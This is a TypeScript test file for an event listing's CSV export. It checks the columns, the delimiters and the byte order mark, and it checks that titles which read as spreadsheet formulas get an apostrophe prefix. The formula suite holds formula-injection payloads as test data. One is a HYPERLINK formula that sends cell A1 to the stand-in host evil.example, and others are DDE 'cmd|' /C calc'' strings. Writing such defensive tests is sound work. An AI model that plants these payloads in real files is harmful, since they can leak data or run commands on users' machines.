/** I6, I9: `/events.csv`, the table for spreadsheets. `lists.test.ts` compares its rows with the endpoint. */
import { parse } from 'csv-parse/sync';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { feeds as annex } from '../../../../src/annexes/feeds/annex.ts';
import { assertAbove } from '../../../helpers/assertions.ts';
import { NOW } from '../../../helpers/calendar.ts';
import { sourceFolder } from '../../../helpers/native-source.ts';
import { type Running, startBuilt } from '../../../helpers/running.ts';
import { startSample } from '../../serve/http/sample.ts';
import type { Stand } from '../../serve/http/stand.ts';
import type { Row } from './expected-lists.ts';

const table = suite<{ stand: Stand }>('table');

table.before(async (context) => {
  context.stand = await startSample({ annexes: [annex] });
});
table.after(({ stand }) => stand.close());

const rowsIn = (text: string, delimiter = ','): readonly Row[] =>
  parse(text, { columns: true, delimiter, bom: true, record_delimiter: '\r\n' });

async function rowsOf({ send }: Pick<Stand, 'send'>, search: string): Promise<readonly Row[]> {
  return rowsIn((await send(`/events.csv?${search}`)).text);
}

/** A year after the second at which the sample was built. */
const YEAR_AHEAD = '2027-06-16';

table('I9: should leave out dates that are more than a year ahead', async ({ stand }) => {
  const days = (await rowsOf(stand, '')).map(({ day = '' }) => day);
  assertAbove(days.length, 100, 'rows');
  assert.equal(
    days.filter((day) => day >= YEAR_AHEAD),
    [],
  );
});

table('I9: should hold dates that are more than a year ahead for repetitions=all', async ({ stand }) => {
  const days = (await rowsOf(stand, 'repetitions=all')).map(({ day = '' }) => day);
  const farDays = days.filter((day) => day >= YEAR_AHEAD);
  assertAbove(farDays.length, 0, `days from ${YEAR_AHEAD} on`);
});

/** Published columns: programs may read them by their place. */
const PUBLISHED_COLUMNS = [
  'id',
  'occurrenceID',
  'title',
  'startDate',
  'endDate',
  'day',
  'startTime',
  'endTime',
  'allDay',
  'eventCancelled',
  'eventSoldOut',
  'mode',
  'venue',
  'address',
  'postalCode',
  'municipality',
  'latitude',
  'longitude',
  'categoryLabels',
  'organizers',
  'eventLink',
  'ticketsURL',
  'streamingURL',
  'free',
  'prices',
  'image',
  'description',
  'accessibility',
];

table('I6: should begin its header with the published columns, in their order', async ({ stand }) => {
  const { text } = await stand.send('/events.csv?pageSize=1');
  const [header = ''] = text.split('\r\n');
  assert.equal(header.split(',').slice(0, PUBLISHED_COLUMNS.length), PUBLISHED_COLUMNS);
});

table('I6: should say in its media type that it has a header', async ({ stand }) => {
  const { headers } = await stand.send('/events.csv?pageSize=1');
  assert.is(headers['content-type'], 'text/csv; charset=utf-8; header=present');
});

/** By default, and for spreadsheets in Norwegian. */
const COMMA = '/events.csv?pageSize=100';
const SEMICOLON = '/events.csv?pageSize=100&delimiter=;';

for (const path of [COMMA, SEMICOLON]) {
  table(`I6: ${path} should have no line end within a row`, async ({ stand }) => {
    const { text } = await stand.send(path);
    assert.not.match(text.replaceAll('\r\n', ''), /[\r\n]/);
  });
}

table('I6: should have no byte order mark by default', async ({ stand }) => {
  assert.not.match((await stand.send(COMMA)).text, /\ufeff/);
});

table('I6: should begin with a byte order mark for delimiter=;', async ({ stand }) => {
  const { bytes } = await stand.send(SEMICOLON);
  assert.equal([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
});

table('I6: should write positions with decimal commas for delimiter=;, else the same', async ({ stand }) => {
  const rows = rowsIn((await stand.send(COMMA)).text);
  const withDecimalCommas = rows.map(({ latitude = '', longitude = '', ...row }) => ({
    ...row,
    latitude: latitude.replace('.', ','),
    longitude: longitude.replace('.', ','),
  }));
  assertAbove(rows.filter(({ latitude = '' }) => latitude.includes('.')).length, 0, 'rows with a position');
  assert.equal(rowsIn((await stand.send(SEMICOLON)).text, ';'), withDecimalCommas);
});

const REFUSED: Readonly<Record<string, string>> = {
  '/events.csv?delimiter=|': 'delimiter: expected one of ,, ;',
  '/events.csv?delimiter=;&delimiter=;': 'delimiter: expected one value',
};

for (const [path, reason] of Object.entries(REFUSED)) {
  table(`I6: should refuse ${path} with its reason`, async ({ stand }) => {
    const { status, text } = await stand.send(path);
    assert.is(status, 400);
    assert.equal(JSON.parse(text).errors[0].extensions.reasons, [reason]);
  });
}

table('I6: should refuse a delimiter of /events.json', async ({ stand }) => {
  const { status, text } = await stand.send('/events.json?delimiter=;');
  assert.is(status, 400);
  assert.equal(JSON.parse(text).errors[0].extensions.invalidArgs, ['delimiter']);
});

table.run();

const formulas = suite<{ running: Running }>('formulas in a table');

/** Titles that a spreadsheet may run as formulas, with the text that it gets in their place. */
const FORMULAS: Readonly<Record<string, string>> = {
  '=1+1': "'=1+1",
  '=HYPERLINK("https://evil.example/?"&A1;"Les mer")': `'=HYPERLINK("https://evil.example/?"&A1;"Les mer")`,
  "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
  '+47 73 00 00 00': "'+47 73 00 00 00",
  '-2+3': "'-2+3",
  '＝1+1': "'＝1+1",
  'Rock;=1+1;': "Rock;'=1+1;",
  'Rock,=1+1,': "Rock,'=1+1,",
  "Kor,-2+3+cmd|' /C calc'!A0": "Kor,'-2+3+cmd|' /C calc'!A0",
  "Kor 5,- 2+3+cmd|' /C calc'!A0": "Kor 5,'- 2+3+cmd|' /C calc'!A0",
  'Kor 5,- HYPERLINK("https://evil.example")': `Kor 5,'- HYPERLINK("https://evil.example")`,
  'Rock;-1+1;': "Rock;'-1+1;",
  'foo;"=1+1;bar': `foo;'"=1+1;bar`,
  'foo; =1+1': "foo;' =1+1",
  'foo,"=2+2': `foo,'"=2+2`,
  'foo,"-2+2': `foo,'"-2+2`,
  '\u034f=1+1': "'\u034f=1+1",
  '\u3164=1+1': "'\u3164=1+1",
  'foo;\u3164\u034f@A1': "foo;'\u3164\u034f@A1",
};

/** Titles that look like formulas to no spreadsheet. */
const PLAIN = [
  'Fra 149,- per person = billig',
  'Kun 150,-/100,- (barn 50,-)!',
  'Sitat: "=1+1"',
  "'=1+1",
  'a@b.example, 10-12',
];

const TITLES: Readonly<Record<string, string>> = {
  ...FORMULAS,
  ...Object.fromEntries(PLAIN.map((title) => [title, title])),
};

formulas.before(async (context) => {
  const events = Object.keys(TITLES).map((title, at) => ({
    id: `e${String(at).padStart(2, '0')}`,
    title_nb: title,
    dates: [{ start: '2026-06-01 20:00' }],
    desc_nb: `<p>${title.replaceAll('<', '&lt;')}</p><p>=2+2</p>`,
  }));
  context.running = await startBuilt(sourceFolder({ 'events.json': events }), NOW);
});
formulas.after(({ running }) => running.close());

for (const delimiter of [',', ';']) {
  formulas(
    `I6: should put an apostrophe before a formula, with ${delimiter} as delimiter`,
    async (context) => {
      const { text } = await context.running.send(`/events.csv?delimiter=${delimiter}`);
      const titles = rowsIn(text, delimiter).map(({ title }) => title);
      assert.equal(titles, Object.values(TITLES));
    },
  );

  formulas(`I6: should keep a formula within a line, with ${delimiter} as delimiter`, async (context) => {
    const { text } = await context.running.send(`/events.csv?delimiter=${delimiter}`);
    const descriptions = rowsIn(text, delimiter).map(({ description }) => description);
    assert.is(descriptions.length, Object.keys(TITLES).length);
    for (const description of descriptions) assert.match(description ?? '', /[^\n]* =2\+2$/);
  });
}

formulas.run();
